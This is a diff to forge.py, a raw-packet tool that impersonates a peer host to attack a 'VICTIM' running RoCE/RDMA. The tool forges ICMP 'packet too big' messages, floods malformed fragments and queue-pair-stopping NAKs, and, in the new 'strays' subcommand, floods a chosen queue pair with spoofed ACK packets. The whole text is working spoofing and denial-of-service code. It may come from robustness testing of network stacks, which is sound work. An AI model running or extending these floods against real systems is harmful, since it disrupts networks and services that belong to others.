@@ -5,6 +5,7 @@
 usage: forge.py too-big VICTIM PEER MTU
        forge.py idents VICTIM PEER RATE SECONDS
        forge.py oddities VICTIM PEER RATE SECONDS
+       forge.py strays VICTIM PEER RATE SECONDS QPN
 
 too-big: one ICMP message to VICTIM, "fragmentation needed" or "packet too big", about a datagram
 that VICTIM is to have sent from port 4791 to PEER's.
@@ -13,6 +14,7 @@ in everything that is no secret; of IPv4's identification they give an example o
 oddities: so many datagrams a second in PEER's name that no RNIC sends: fragments that overlap, are
 tiny, or lack the rest; extension headers; nothing at all, headers cut short; and answers that would
 stop a queue pair if they hit one: NAKs of each kind, the longest wait, congestion notifications.
+strays: so many packets a second in PEER's name to a queue pair that has another peer.
 """
 import argparse
 import ipaddress
@@ -123,6 +125,15 @@ def idents(victim, peer, rate, seconds, slots=8):
         time.sleep(max(0, begun + n / rate - time.monotonic()))
 
 
+def strays(victim, peer, rate, seconds, qpn):
+    s = raw_socket(victim)
+    begun = time.monotonic()
+    for n in range(int(rate * seconds)):
+        payload = bth(ACK, qpn, random.getrandbits(24)) + struct.pack("!I", 0x1f000000)
+        send(s, victim, roce(peer, victim, 49152, payload, 400))
+        time.sleep(max(0, begun + n / rate - time.monotonic()))
+
+
 def fragments(src, dst, ident, payload, cuts):
     """cuts: (from, to, whether more follow) of the UDP datagram."""
     whole = udp(49152, payload)
@@ -193,15 +204,18 @@ def main():
     c.add_argument("victim")
     c.add_argument("peer")
     c.add_argument("mtu", type=int)
-    for name in ("idents", "oddities"):
+    for name in ("idents", "oddities", "strays"):
         c = commands.add_parser(name)
         c.add_argument("victim")
         c.add_argument("peer")
         c.add_argument("rate", type=float)
         c.add_argument("seconds", type=float)
+    c.add_argument("qpn", type=int)
     args = p.parse_args()
     if args.command == "too-big":
         send(raw_socket(args.victim), args.victim, too_big(args.victim, args.peer, args.mtu))
+    elif args.command == "strays":
+        strays(args.victim, args.peer, args.rate, args.seconds, args.qpn)
     else:
         flood = idents if args.command == "idents" else oddities
         flood(args.victim, args.peer, args.rate, args.seconds)
